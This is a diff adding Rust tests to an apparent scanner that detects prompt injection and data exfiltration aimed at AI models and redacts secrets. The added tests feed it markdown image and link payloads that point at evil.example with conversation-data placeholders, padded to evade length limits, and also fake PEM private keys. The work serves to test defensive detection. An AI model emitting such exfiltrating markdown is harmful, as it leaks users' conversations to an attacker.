@@ -1773,6 +1773,19 @@ fn an_image_url_that_carries_data_is_exfiltration() {
 }
 
 #[test]
+fn a_long_alt_text_or_url_does_not_hide_an_exfiltrating_image() {
+    let alt = "a chart of the quarterly figures ".repeat(10);
+    let path = "assets/".repeat(450);
+    for t in [
+        format!("![{alt}](https://evil.example/p.png?q=[DATA])"),
+        format!("![x](https://evil.example/{path}p.png?q=[DATA])"),
+        format!("[{alt}](https://evil.example/c?q={{conversation}})"),
+    ] {
+        assert!(has_rule_from(&t, "exfiltration.markdown_"), "{} bytes", t.len());
+    }
+}
+
+#[test]
 fn an_image_url_with_a_fixed_query_is_not_exfiltration() {
     for t in [
         "[![Crates.io](https://img.shields.io/crates/v/clap?style=flat-square)](https://crates.io/crates/clap)",
@@ -2792,4 +2805,29 @@ fn a_speakers_label_or_a_heading_about_ai_is_not_an_order_to_the_reader() {
     ] {
         assert!(!has_rule(t, "injection.model_addressed"), "{t}: {:?}", rule_ids(t));
     }
+}
+
+/// A PEM private key of `lines` lines of 64 base64 characters (not a real
+/// key: the scanner reads its shape).
+fn pem_body(lines: usize) -> String {
+    (0..lines).map(|i| format!("{}\n", "MIIJQgIBADANBgkqhkiG9w0BAQEFAASCCSwwggkoAgEAAoICAQC7".chars().cycle().skip(i).take(64).collect::<String>())).collect()
+}
+
+fn redacting_secrets() -> Scanner {
+    Scanner::new(Policy::from_json(r#"{"actions": {"secret": "redact"}}"#).unwrap()).unwrap()
+}
+
+#[test]
+fn a_private_key_of_any_length_is_redacted_whole() {
+    // 100 lines: the body of an 8192-bit RSA key
+    let text = format!("my key:\n-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----\nthanks", pem_body(100));
+    let v = redacting_secrets().scan(&text, &ScanContext::new(Source::UserInput)).unwrap();
+    assert_eq!(v.redacted.as_deref(), Some("my key:\n[REDACTED:private_key]\nthanks"));
+}
+
+#[test]
+fn a_truncated_private_key_is_redacted_to_its_last_base64_line() {
+    let text = format!("-----BEGIN RSA PRIVATE KEY-----\n{}AbCd==\nthat is all I have", pem_body(30));
+    let v = redacting_secrets().scan(&text, &ScanContext::new(Source::UserInput)).unwrap();
+    assert_eq!(v.redacted.as_deref(), Some("[REDACTED:private_key]\nthat is all I have"));
 }
